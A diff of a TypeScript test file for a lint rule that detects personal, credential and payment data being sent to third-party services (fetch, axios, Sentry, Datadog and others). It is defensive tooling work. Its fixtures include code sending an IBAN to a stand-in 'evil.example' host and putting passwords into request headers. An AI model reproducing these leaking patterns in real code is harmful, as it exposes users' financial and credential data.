@@ -1,8 +1,10 @@
 import rule from '../../src/rules/no-classified-third-party.js';
-import { invalid, MODELS } from '../helpers.js';
+import { FIX, invalid as invalidCase, MODELS, wholeUser, type Expected } from '../helpers.js';
+import type { SinkRuleOptions } from '../../src/analysis/sinkRule.js';
 import { typedRuleTester } from '../ruleTester.js';
 
 const ruleTester = typedRuleTester();
+const invalid = (code: string, expected: Expected, options?: SinkRuleOptions) => invalidCase(code, { fix: expected.category?.includes('credential') ? FIX.credential : FIX.thirdParty, ...expected }, options);
 const pii = ' (pii)';
 const payment = ' (payment)';
 const payoutAllow = { allow: [{ host: 'api.payouts.example', maxLevel: 'restricted' as const, categories: ['payment'] }] };
@@ -27,23 +29,23 @@ ruleTester.run('no-classified-third-party', rule, {
   ],
   invalid: [
     invalid(MODELS + `await fetch(\`https://api.example.com/users?email=\${email}\`);`, { arg: '`https://api.example.com/users?email=${email}`', at: 'email', path: 'email', category: pii, sink: 'fetch()', masker: 'maskEmail' }),
-    invalid(MODELS + `await fetch('https://api.example.com', { method: 'POST', body: JSON.stringify(user) });`, { arg: `{ method: 'POST', body: JSON.stringify(user) }`, at: 'user', path: 'user.email', category: pii, sink: 'fetch()' }),
+    invalid(MODELS + `await fetch('https://api.example.com', { method: 'POST', body: JSON.stringify(user) });`, { arg: `{ method: 'POST', body: JSON.stringify(user) }`, at: 'user', ...wholeUser('user', true), sink: 'fetch()' }),
     invalid(MODELS + `await fetch('https://api.example.com', { headers: { Authorization: \`Bearer \${password}\` } });`, { arg: '{ headers: { Authorization: `Bearer ${password}` } }', at: 'password', path: 'password', category: ' (credential)', sink: 'fetch()', masker: 'redactString' }),
-    invalid(MODELS + `import axios from 'axios';\nawait axios.post('https://api.example.com/users', user);`, { arg: 'user', path: 'user.email', category: pii, sink: 'axios.post()' }),
+    invalid(MODELS + `import axios from 'axios';\nawait axios.post('https://api.example.com/users', user);`, { arg: 'user', ...wholeUser('user', true), sink: 'axios.post()' }),
     invalid(MODELS + `import axios from 'axios';\nawait axios({ url: 'https://api.example.com', data: { email } });`, { arg: `{ url: 'https://api.example.com', data: { email } }`, at: '{ email }', path: 'email', category: pii, sink: 'axios()', masker: 'maskEmail' }),
     invalid(MODELS + `import axios from 'axios';\nawait axios.get('https://api.example.com', { params: { email } });`, { arg: '{ params: { email } }', at: '{ email }', path: 'email', category: pii, sink: 'axios.get()', masker: 'maskEmail' }),
     invalid(MODELS + `import axios from 'axios';\nconst api = axios.create({ headers: { 'X-Key': password } });`, { arg: `{ headers: { 'X-Key': password } }`, at: 'password', path: 'password', category: ' (credential)', sink: 'axios.create()', masker: 'redactString' }),
-    invalid(MODELS + `import got from 'got';\nawait got.post('https://api.example.com', { json: user });`, { arg: '{ json: user }', at: 'user', path: 'user.email', category: pii, sink: 'got.post()' }),
+    invalid(MODELS + `import got from 'got';\nawait got.post('https://api.example.com', { json: user });`, { arg: '{ json: user }', at: 'user', ...wholeUser('user', true), sink: 'got.post()' }),
     invalid(MODELS + `import ky from 'ky';\nawait ky.post('https://api.example.com', { json: { email } });`, { arg: '{ json: { email } }', at: '{ email }', path: 'email', category: pii, sink: 'ky.post()', masker: 'maskEmail' }),
-    invalid(MODELS + `import { request } from 'undici';\nawait request('https://api.example.com', { method: 'POST', body: JSON.stringify(user) });`, { arg: `{ method: 'POST', body: JSON.stringify(user) }`, at: 'user', path: 'user.email', category: pii, sink: 'request()' }),
+    invalid(MODELS + `import { request } from 'undici';\nawait request('https://api.example.com', { method: 'POST', body: JSON.stringify(user) });`, { arg: `{ method: 'POST', body: JSON.stringify(user) }`, at: 'user', ...wholeUser('user', true), sink: 'request()' }),
     invalid(MODELS + `import { fetch as undiciFetch } from 'undici';\nawait undiciFetch(\`https://api.example.com/\${email}\`);`, { arg: '`https://api.example.com/${email}`', at: 'email', path: 'email', category: pii, sink: 'undiciFetch()', masker: 'maskEmail' }),
     invalid(MODELS + `import https from 'node:https';\nhttps.request({ host: 'api.example.com', path: \`/u/\${email}\` });`, { arg: '{ host: \'api.example.com\', path: `/u/${email}` }', at: 'email', path: 'email', category: pii, sink: 'https.request()', masker: 'maskEmail' }),
     invalid(MODELS + `import http from 'node:http';\nhttp.get(\`http://api.example.com/\${email}\`);`, { arg: '`http://api.example.com/${email}`', at: 'email', path: 'email', category: pii, sink: 'http.get()', masker: 'maskEmail' }),
-    invalid(MODELS + `const xhr = new XMLHttpRequest();\nxhr.send(JSON.stringify(user));`, { arg: 'JSON.stringify(user)', at: 'user', path: 'user.email', category: pii, sink: 'xhr.send()' }),
-    invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureException(new Error('x'), { extra: { user } });`, { arg: '{ extra: { user } }', at: '{ user }', path: 'user.email', category: pii, sink: 'Sentry.captureException()' }),
+    invalid(MODELS + `const xhr = new XMLHttpRequest();\nxhr.send(JSON.stringify(user));`, { arg: 'JSON.stringify(user)', at: 'user', ...wholeUser('user', true), sink: 'xhr.send()' }),
+    invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureException(new Error('x'), { extra: { user } });`, { arg: '{ extra: { user } }', at: '{ user }', ...wholeUser('user', true), sink: 'Sentry.captureException()' }),
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureMessage(\`failed for \${email}\`);`, { arg: '`failed for ${email}`', at: 'email', path: 'email', category: pii, sink: 'Sentry.captureMessage()', masker: 'maskEmail' }),
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setUser({ email });`, { arg: '{ email }', at: '{ email }', path: 'email', category: pii, sink: 'Sentry.setUser()', masker: 'maskEmail' }),
-    invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setContext('user', { ...user });`, { arg: '{ ...user }', at: 'user', path: 'user.email', category: pii, sink: 'Sentry.setContext()' }),
+    invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setContext('user', { ...user });`, { arg: '{ ...user }', at: 'user', ...wholeUser('user', true), sink: 'Sentry.setContext()' }),
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setExtra('email', email);`, { arg: 'email', path: 'email', category: pii, sink: 'Sentry.setExtra()', masker: 'maskEmail' }),
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setTag('email', email);`, { arg: 'email', path: 'email', category: pii, sink: 'Sentry.setTag()', masker: 'maskEmail' }),
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.addBreadcrumb({ message: \`login \${email}\` });`, { arg: '{ message: `login ${email}` }', at: 'email', path: 'email', category: pii, sink: 'Sentry.addBreadcrumb()', masker: 'maskEmail' }),
@@ -60,11 +62,11 @@ ruleTester.run('no-classified-third-party', rule, {
     invalid(MODELS + `import { trace } from '@opentelemetry/api';\ntrace.getActiveSpan()?.setAttributes({ 'user.email': email });`, { arg: `{ 'user.email': email }`, at: 'email', path: 'email', category: pii, sink: 'trace.getActiveSpan()?.setAttributes()', masker: 'maskEmail' }),
     invalid(MODELS + `import { trace } from '@opentelemetry/api';\ntrace.getActiveSpan()?.addEvent(\`login \${email}\`);`, { arg: '`login ${email}`', at: 'email', path: 'email', category: pii, sink: 'trace.getActiveSpan()?.addEvent()', masker: 'maskEmail' }),
     invalid(MODELS + `import { datadogRum } from '@datadog/browser-rum';\ndatadogRum.setUser({ id: user.id, email });`, { arg: '{ id: user.id, email }', at: 'email', shorthand: true, path: 'email', category: pii, sink: 'datadogRum.setUser()', masker: 'maskEmail' }),
-    invalid(MODELS + `import { datadogRum } from '@datadog/browser-rum';\ndatadogRum.addAction('checkout', { card: orders[0]!.card });`, { arg: '{ card: orders[0]!.card }', at: 'orders[0]!.card', path: 'orders[0]!.card', category: payment, sink: 'datadogRum.addAction()', masker: 'maskCard' }),
+    invalid(MODELS + `import { datadogRum } from '@datadog/browser-rum';\ndatadogRum.addAction('checkout', { card: orders[0]!.card });`, { arg: '{ card: orders[0]!.card }', at: 'orders[0]!.card', path: 'orders[0].card', category: payment, sink: 'datadogRum.addAction()', masker: 'maskCard' }),
     invalid(MODELS + `import tracer from 'dd-trace';\ntracer.scope().active()?.setTag('user.email', email);`, { arg: 'email', path: 'email', category: pii, sink: 'tracer.scope().active()?.setTag()', masker: 'maskEmail' }),
     // The approved recipient gets its categories only, and no more than its level.
     invalid(MODELS + `import axios from 'axios';\nawait axios.post('https://api.payouts.example/v1/payouts', { iban: user.payouts[0]!.iban, email });`, { arg: '{ iban: user.payouts[0]!.iban, email }', at: 'email', shorthand: true, path: 'email', category: pii, sink: 'axios.post()', masker: 'maskEmail' }, payoutAllow),
-    invalid(MODELS + `import axios from 'axios';\nawait axios.post('https://evil.example/v1/payouts', { iban: user.payouts[0]!.iban });`, { arg: '{ iban: user.payouts[0]!.iban }', at: 'user.payouts[0]!.iban', path: 'user.payouts[0]!.iban', category: payment, sink: 'axios.post()', masker: 'redactString' }, payoutAllow),
+    invalid(MODELS + `import axios from 'axios';\nawait axios.post('https://evil.example/v1/payouts', { iban: user.payouts[0]!.iban });`, { arg: '{ iban: user.payouts[0]!.iban }', at: 'user.payouts[0]!.iban', path: 'user.payouts[0].iban', category: payment, sink: 'axios.post()', masker: 'redactString' }, payoutAllow),
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureMessage(\`\${email}\`);`, { arg: '`${email}`', at: 'email', path: 'email', category: pii, sink: 'Sentry.captureMessage()', masker: 'maskEmail' }, { allow: [{ from: 'package', package: '@sentry/*', maxLevel: 'confidential' }] }),
     // Confidential is above the default Internal for third parties.
     invalid(MODELS + `await fetch('https://api.example.com', { body: String(score) });`, { arg: '{ body: String(score) }', at: 'score', path: 'score', level: 'confidential', sink: 'fetch()' }),
